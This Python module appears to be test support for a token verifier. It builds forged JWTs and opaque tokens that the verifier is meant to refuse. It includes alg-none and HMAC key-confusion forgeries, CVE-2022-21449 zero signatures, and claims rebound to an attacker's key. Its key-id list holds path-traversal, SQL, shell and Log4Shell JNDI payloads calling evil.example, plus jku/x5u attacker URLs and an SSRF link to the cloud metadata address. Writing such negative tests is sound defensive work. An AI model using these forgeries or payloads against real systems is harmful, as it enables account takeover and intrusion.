"""Forged tokens, made from genuine tokens or from nothing. All must be refused."""

import base64
import hmac
import json
from collections.abc import Iterator, Mapping
from typing import Any

from cryptography.hazmat.primitives import hashes, serialization
from cryptography.hazmat.primitives.asymmetric import ec
from cryptography.hazmat.primitives.asymmetric.utils import decode_dss_signature

from chalicelib.baton.keys.base64url import decode_base64url, encode_base64url

ORDER = 0xFFFFFFFF00000000FFFFFFFFFFFFFFFFBCE6FAADA7179E84F3B9CAC2FC632551
"""The order of the base point of P-256."""
THIEFS_KEY = ec.derive_private_key(23, ec.SECP256R1())

Json = dict[str, Any]


def jwk_of(key: ec.EllipticCurvePublicKey) -> Json:
    """Write a public key as a JWK."""
    numbers = key.public_numbers()
    x, y = (encode_base64url(number.to_bytes(32, "big")) for number in (numbers.x, numbers.y))
    return {"crv": "P-256", "kty": "EC", "x": x, "y": y}


def key_of(jwk: Mapping[str, str]) -> ec.EllipticCurvePublicKey:
    """Read a published key."""
    x, y = (int.from_bytes(decode_base64url(jwk[name]), "big") for name in ("x", "y"))
    return ec.EllipticCurvePublicNumbers(x, y, ec.SECP256R1()).public_key()


def raw_signature(key: ec.EllipticCurvePrivateKey, message: bytes) -> bytes:
    """Sign with ES256."""
    r, s = decode_dss_signature(key.sign(message, ec.ECDSA(hashes.SHA256())))
    return r.to_bytes(32, "big") + s.to_bytes(32, "big")


def twin(signature: bytes) -> bytes:
    """Return the second valid signature of the same message by the same key: (r, n - s)."""
    return signature[:32] + (ORDER - int.from_bytes(signature[32:], "big")).to_bytes(32, "big")


def spellings_of_a_key(key: ec.EllipticCurvePublicKey, jwk: Mapping[str, str]) -> Iterator[tuple[str, bytes]]:
    """Encode a public key in every way that a verifier might use as an HMAC secret."""
    encoding, form = serialization.Encoding, serialization.PublicFormat
    pem = key.public_bytes(encoding.PEM, form.SubjectPublicKeyInfo)
    der = key.public_bytes(encoding.DER, form.SubjectPublicKeyInfo)
    point = key.public_bytes(encoding.X962, form.UncompressedPoint)
    yield "PEM", pem
    yield "PEM, stripped", pem.strip()
    yield "PEM, CRLF", pem.replace(b"\n", b"\r\n")
    yield "PEM, its body alone", b"".join(pem.splitlines()[1:-1])
    yield "DER", der
    yield "DER in base64", base64.b64encode(der)
    yield "raw point", point
    yield "raw point, without its first byte", point[1:]
    yield "compressed point", key.public_bytes(encoding.X962, form.CompressedPoint)
    yield "x alone", point[1:33]
    yield "JWK", json.dumps(dict(jwk)).encode()
    yield "JWK, compact", json.dumps(dict(jwk), separators=(",", ":")).encode()
    yield "JWK, required members sorted", json.dumps(jwk_of(key), separators=(",", ":"), sort_keys=True).encode()
    yield "kid", jwk["kid"].encode()
    yield "nothing", b""


def forged_jwts(token: str, jwk: Mapping[str, str]) -> Iterator[tuple[str, str]]:
    """Forge JWTs from a genuine JWT and its public key. Yields a name and the forgery.

    Forgeries about the thief's own key also claim the victim's login for this key (``cnf``). A verifier that accepts
    one accepts the thief's signed requests.
    """
    head, payload, signature = token.split(".")
    header, claims = json.loads(decode_base64url(head)), json.loads(decode_base64url(payload))
    thiefs = jwk_of(THIEFS_KEY.public_key())
    stolen = {**claims, "cnf": {"jkt": thumbprint(thiefs), "jwk": thiefs}}
    bodies = {"": claims, ", for the thief's key": stolen}

    for ending, body in bodies.items():
        for alg in ("none", "None", "NONE", "nOnE", "none ", "none\0", "", None, 0, ["none"], {"none": 1}, True):
            for value in ("", "AA", signature):
                yield f"alg {alg!r}, signature {value[:4]!r}{ending}", f"{jose({**header, 'alg': alg}, body)}.{value}"
        yield f"no alg{ending}", f"{jose({k: v for k, v in header.items() if k != 'alg'}, body)}.{signature}"
        for spelling, secret in spellings_of_a_key(key_of(jwk), jwk):
            for alg, algorithm in (("HS256", "sha256"), ("HS384", "sha384"), ("HS512", "sha512")):
                signing_input = jose({**header, "alg": alg}, body)
                mac = hmac.digest(secret, signing_input.encode(), algorithm)
                yield f"{alg} with the key as {spelling}{ending}", f"{signing_input}.{encode_base64url(mac)}"
                padded = mac.ljust(64, b"\0")[:64]
                yield f"{alg} of 64 bytes with {spelling}{ending}", f"{signing_input}.{encode_base64url(padded)}"
        for name, zeros in zero_signatures():
            yield f"signature {name}{ending}", f"{jose(header, body)}.{encode_base64url(zeros)}"

    for what, changed in heads(header, thiefs):
        yield f"{what}, signed by the thief", signed(changed, stolen)
        yield f"{what}, signature kept", f"{jose(changed, claims)}.{signature}"
    for what, written in doubled(header, claims):
        yield what, f"{written}.{signature}"
        thiefs_own = encode_base64url(raw_signature(THIEFS_KEY, written.encode()))
        yield f"{what}, signed by the thief", f"{written}.{thiefs_own}"
    for name, wrong in changed_claims(claims):
        yield f"claim {name}", f"{jose(header, wrong)}.{signature}"
    yield from respelled(token)
    yield from reserialised(head, payload, signature)


def zero_signatures() -> Iterator[tuple[str, bytes]]:
    """Make the signatures that a faulty verifier accepts for any message (CVE-2022-21449)."""
    numbers = {"0": 0, "1": 1, "n": ORDER, "n - 1": ORDER - 1, "2^256 - 1": 2**256 - 1}
    for r, s in (("0", "0"), ("0", "1"), ("1", "0"), ("n", "n"), ("n", "1"), ("n - 1", "n - 1"), ("2^256 - 1", "1")):
        yield f"({r}, {s})", numbers[r].to_bytes(32, "big") + numbers[s].to_bytes(32, "big")


def heads(header: Json, thiefs: Json) -> Iterator[tuple[str, Json]]:
    """Change the header: the source of the key, and the critical extensions."""
    kids: tuple[object, ...] = (
        "../../../../../../dev/null",
        "/dev/null",
        "keys/../../proc/self/environ",
        "' UNION SELECT 'secret' --",
        "1 OR 1=1",
        "| sleep 1",
        "${jndi:ldap://evil.example/x}",
        "{{7*7}}",
        "",
        "\0",
        None,
        0,
        -1,
        [header["kid"]],
        {"$ne": None},
        header["kid"].lower(),
        header["kid"] + "=",
        header["kid"] + "\0",
        "K#ring",
        thumbprint(thiefs),
        "A" * 43,
    )
    for kid in kids:
        yield f"kid {kid!r}", {**header, "kid": kid}
    more: tuple[Json, ...] = (
        {"jwk": thiefs},
        {"jwk": thiefs, "kid": thumbprint(thiefs)},
        {"jku": "https://evil.example/jwks.json"},
        {"jku": "http://169.254.169.254/latest/meta-data"},
        {"x5u": "https://evil.example/certificate.pem"},
        {"x5c": ["MIIB"]},
        {"x5t": "AAAA"},
        {"x5t#S256": "AAAA"},
        {"crit": ["exp"]},
        {"crit": []},
        {"crit": ["b64"], "b64": False},
        {"b64": False},
        {"zip": "DEF"},
        {"cty": "JWT"},
        {"epk": thiefs},
        {"enc": "A256GCM", "alg": "dir"},
        {"alg": "ES384"},
        {"alg": "ES256K"},
        {"alg": "EdDSA"},
        {"alg": "RS256"},
        {"alg": "PS256"},
        {"alg": "es256"},
        {"typ": "JWT"},
        {"typ": "dpop+jwt"},
        {"typ": None},
    )
    for members in more:
        yield json.dumps(members)[:60], {**header, **members}


def doubled(header: Json, claims: Json) -> Iterator[tuple[str, str]]:
    """Repeat a member: two parsers would read two different tokens."""
    head, body = json.dumps(header), json.dumps(claims)
    yield "alg twice, none first", text_jose('{"alg":"none",' + head[1:], body)
    yield "alg twice, none last", text_jose(head[:-1] + ',"alg":"none"}', body)
    yield "kid twice", text_jose(head[:-1] + ',"kid":"x"}', body)
    yield "gen twice", text_jose(head, '{"gen":0,' + body[1:])
    yield "sub twice, once escaped", text_jose(head, body[:-1] + ',"\\u0073ub":"x"}')


def changed_claims(claims: Json) -> Iterator[tuple[str, Json]]:
    """Change the claims of a token, and keep its signature."""
    for name, value in claims.items():
        yield f"{name} gone", {other: kept for other, kept in claims.items() if other != name}
        if isinstance(value, int):
            yield f"{name} + 1", {**claims, name: value + 1}
        yield f"{name} null", {**claims, name: None}
    yield "and no cnf, so that it is a bearer's", {name: value for name, value in claims.items() if name != "cnf"}


def respelled(token: str) -> Iterator[tuple[str, str]]:
    """Write a genuine token in another spelling."""
    parts = token.split(".")
    for index, part in enumerate(parts):
        padded = [*parts]
        padded[index] = part + "=" * (-len(part) % 4 or 4)
        yield f"part {index} padded", ".".join(padded)
        standard = [*parts]
        standard[index] = part.replace("-", "+").replace("_", "/")
        standard[index] += "" if standard != parts else "+"
        yield f"part {index} in plain base64", ".".join(standard)
        alphabet = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_"
        stray = [*parts]
        stray[index] = part[:-1] + alphabet[alphabet.index(part[-1]) ^ 1]
        yield f"part {index} with a stray bit", ".".join(stray)
    for what, text in (("\n", f"{token}\n"), (" within", token[:50] + " " + token[50:]), ("dot", f"{token}.")):
        yield f"white space or more: {what!r}", text
    yield "upper case", token.upper()
    yield "twice", token + token
    yield "Bearer twice", f"Bearer {token}"
    for share in range(1, 10):
        yield f"cut to {share} tenths", token[: len(token) * share // 10]


def reserialised(head: str, payload: str, signature: str) -> Iterator[tuple[str, str]]:
    """Serialise a genuine token in another format (RFC 7515 section 7.2, RFC 7516)."""
    flat = {"protected": head, "payload": payload, "signature": signature}
    yield "flattened JSON", json.dumps(flat)
    yield "general JSON", json.dumps({"payload": payload, "signatures": [{"protected": head, "signature": signature}]})
    yield "detached", f"{head}..{signature}"
    yield "JWE", f"{head}.{payload}.{payload}.{payload}.{signature}"
    nested = encode_base64url(f"{head}.{payload}.{signature}".encode())
    yield "a JWS within a JWS", f"{head}.{nested}.{signature}"
    yield "two parts", f"{head}.{payload}"


def forged_opaques(token: str) -> Iterator[tuple[str, str]]:
    """Forge opaque tokens from a genuine token."""
    value = decode_base64url(token.removeprefix("baton_"))
    for bit in range(0, len(value) * 8, 5):
        flipped = bytearray(value)
        flipped[bit // 8] ^= 1 << bit % 8
        yield f"bit {bit} flipped", f"baton_{encode_base64url(bytes(flipped))}"
    for version in sorted({*range(0, 256, 15), 1, 2} - {value[0]}):
        yield f"version {version}", f"baton_{encode_base64url(bytes([version]) + value[1:])}"
    for length in sorted({*range(0, len(value), 7), len(value) - 1, len(value) - 32, len(value) - 33}):
        yield f"{length} bytes", f"baton_{encode_base64url(value[:length])}"
    yield "a byte more", f"baton_{encode_base64url(value + bytes(1))}"
    yield "padded", f"{token}{'=' * (-len(token.removeprefix('baton_')) % 4 or 4)}"
    yield "no prefix", token.removeprefix("baton_")
    yield "prefix twice", f"baton_{token}"
    yield "prefix in capitals", token.upper()
    yield "twice", token + token
    yield "zeros", f"baton_{encode_base64url(bytes(len(value)))}"
    ones = encode_base64url(b"\xff" * len(value))
    yield "ones", f"baton_{ones}"


OVERSIZED = {"8 KB and one": "a" * 8193, "8 MB": "e30." * 2_000_000, "8 MB, opaque": "baton_" + "A" * 8_000_000}


def signed(header: Json, claims: Json) -> str:
    """Sign with the thief's key."""
    signing_input = jose(header, claims)
    return f"{signing_input}.{encode_base64url(raw_signature(THIEFS_KEY, signing_input.encode()))}"


def jose(header: Json, claims: Json) -> str:
    """Build the signing input from a header and claims."""
    return text_jose(json.dumps(header, separators=(",", ":")), json.dumps(claims, separators=(",", ":")))


def text_jose(header: str, claims: str) -> str:
    """Build the signing input from text."""
    return f"{encode_base64url(header.encode())}.{encode_base64url(claims.encode())}"


def thumbprint(jwk: Mapping[str, str]) -> str:
    """Compute the thumbprint of a key (RFC 7638)."""
    digest = hashes.Hash(hashes.SHA256())
    digest.update(json.dumps(dict(jwk), separators=(",", ":"), sort_keys=True).encode())
    return encode_base64url(digest.finalize())
